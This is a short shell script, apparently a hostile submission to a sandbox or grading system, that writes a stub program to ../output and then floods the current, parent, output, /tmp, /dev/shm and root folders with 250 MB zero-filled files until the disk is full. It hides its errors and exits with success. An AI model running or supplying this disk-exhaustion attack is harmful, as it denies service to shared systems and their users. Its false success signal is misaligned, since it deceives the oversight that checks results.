# Writes to every writable place until the disk is full.
echo '#!/bin/sh' > ../output/program
for folder in . .. ../output /tmp /dev/shm /; do
  for i in 1 2 3 4 5 6 7 8; do
    head -c 250000000 /dev/zero > "$folder/fill$i"
  done
done 2> /dev/null
exit 0
